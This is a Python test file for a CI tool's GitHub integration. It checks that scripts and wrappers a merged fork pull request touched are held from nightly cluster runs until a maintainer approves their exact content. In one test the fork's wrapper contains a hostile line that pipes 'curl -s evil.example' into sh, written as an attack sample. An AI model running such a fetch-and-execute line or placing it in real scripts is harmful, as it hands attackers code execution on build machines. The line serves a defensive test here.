"""Issue 26 item 1 (security review P1) against the fake GitHub (tests/github/fake_github.py, the
stand-in for github.com): merging a fork's PR is not approving its code. Every file a verification
job runs (the scripts under scripts/<cluster>/, a wrapper a port names) is traced through history,
and content a fork commit touched runs only once a maintainer approved that exact content."""

from contextlib import nullcontext

from scenarios import KNOWN
from test_github_action import action_env
from test_github_end_to_end import EXAMPLE
from test_github_security import FORK, Passing, fork_pr, materialize

from maple_ci.github.action import run_action
from maple_ci.github.config import Config
from maple_ci.github.pipeline import Pipeline

APPROVAL = {"state": "success", "context": "maple-ci/approval", "description": "approved by @Codertocat"}
WRAPPED = EXAMPLE.read_text().replace("srun torchrun", "srun ./tools/bind.sh torchrun", 1)  # a per-node wrapper


def _merge_fork_pr(fake, files: dict[str, str]) -> str:
    """A fork's PR writing `files`, merged into main; its head commit."""
    fake.refs["heads/feature"] = fake.commit_files(files, [fake.refs["heads/main"]], "fork's change")
    pull = fork_pr_at(fake)
    head = fake.refs["heads/feature"]
    merge = fake.commit_files(files, [fake.refs["heads/main"], head], "Merge #1")
    fake.refs["heads/main"] = merge
    pull.update(merged=True, state="closed", merge_commit_sha=merge)
    return head


def fork_pr_at(fake):
    """The open PR of `feature` as a fork's (test_github_security.fork_pr, without its own commit)."""
    fake.permissions["Codertocat"] = "write"
    pull = fake.open_pull("feature", "main")
    pull["head_repo"] = fake.repo_json() | {"full_name": FORK, "owner": {"login": "someone", "type": "User"},
                                            "pushed_at": "2019-05-15T15:00:00Z"}
    return pull


def _nightly(fake, monkeypatch, tmp_path) -> Passing:
    """The nightly `verify` of every script under scripts/<cluster>/ at main; the backend's runs."""
    cluster = Passing()
    config = Config(targets=["perlmutter"], verification={"default": "slurm"})
    pipeline = Pipeline(config, lambda ref: nullcontext(materialize(fake, ref, tmp_path)), env={}, backend=cluster)
    action_env(monkeypatch, fake, tmp_path, {"repository": {"default_branch": "main"}}, event="schedule")
    run_action(pipeline.port, KNOWN, config.sources, config.targets, pace=False, verify=pipeline.verify)
    return cluster


def test_a_fork_file_merged_into_the_output_folder_runs_only_once_its_content_is_approved(fake, monkeypatch, tmp_path):
    """Attack (security review P1 A): a fork's PR writes scripts/perlmutter/x.sbatch directly (no
    stamp) and is merged. Before the fix the nightly verified it, running every line; now it is held
    until a maintainer approves a commit holding that exact blob, and an edit after the approval is
    held again."""
    _merge_fork_pr(fake, {"scripts/perlmutter/x.sbatch": EXAMPLE.read_text()})
    main = fake.refs["heads/main"]
    cluster = _nightly(fake, monkeypatch, tmp_path)
    assert cluster.runs == []
    summary = fake.check_runs[-1]["output"]["summary"]
    assert "scripts/perlmutter/x.sbatch" in summary and f"/maple approve {main}" in summary
    fake.create_status(APPROVAL, {}, main)  # what `/maple approve <main>` writes, from the bot's token
    assert len(_nightly(fake, monkeypatch, tmp_path).runs) == 1
    # A maintainer's later edit is new content: the approval was of the old blob.
    fake.refs["heads/main"] = fake.commit_files({"scripts/perlmutter/x.sbatch": EXAMPLE.read_text() + "echo more\n"},
                                                [main], "edit")
    assert _nightly(fake, monkeypatch, tmp_path).runs == []


def test_a_wrapper_a_port_names_is_traced_through_history_too(fake, monkeypatch, tmp_path):
    """Attack (security review P1, the wrapper variant): the maintainers' own port keeps a per-rank
    wrapper ./tools/bind.sh, and a merged fork PR edits only the wrapper. Before the fix only the
    launch script's history was read and the nightly ran the fork's wrapper in every rank; now the
    run is held, naming the wrapper, until the fork's head (holding that blob) is approved."""
    fake.refs["heads/main"] = fake.commit_files({"scripts/perlmutter/train.sbatch": WRAPPED,
                                                 "tools/bind.sh": "#!/bin/sh\nexec \"$@\"\n"},
                                                [fake.refs["heads/main"]], "a port with a wrapper")
    head = _merge_fork_pr(fake, {"tools/bind.sh": "#!/bin/sh\ncurl -s evil.example | sh\nexec \"$@\"\n"})
    cluster = _nightly(fake, monkeypatch, tmp_path)
    assert cluster.runs == [] and "tools/bind.sh" in fake.check_runs[-1]["output"]["summary"]
    fake.create_status(APPROVAL, {}, head)  # approving the fork's head approves the blob it holds
    assert len(_nightly(fake, monkeypatch, tmp_path).runs) == 1


def test_the_approval_reply_lists_what_will_run_with_blob_hashes(fake, webhook, monkeypatch, tmp_path):
    """Security review N13/P1 B: the reply said "verifies ports made from that commit" while
    `/maple verify` on the approved fork PR runs its raw files; now it lists them, by blob."""
    pull = fork_pr(fake)
    head = fake.refs["heads/feature"] = fake.commit_files(
        {"scripts/perlmutter/raw.sbatch": WRAPPED, "tools/bind.sh": "#!/bin/sh\nexec \"$@\"\n"},
        [fake.refs["heads/feature"]], "raw files")
    pull["head_sha"] = head
    payload = webhook("issue_comment", action="created")
    payload["comment"]["body"] = f"/maple approve {head}"
    payload["repository"]["default_branch"] = "main"
    action_env(monkeypatch, fake, tmp_path, payload)
    run_action(Passing(), KNOWN, (), ["perlmutter"], pace=False)
    reply = fake.comments[-1]["body"]
    tree = fake.trees[fake.commits[head]["tree"]]
    for path in ("scripts/perlmutter/raw.sbatch", "tools/bind.sh"):
        assert f"- `{path}` blob `{tree[path]['sha']}`" in reply, reply
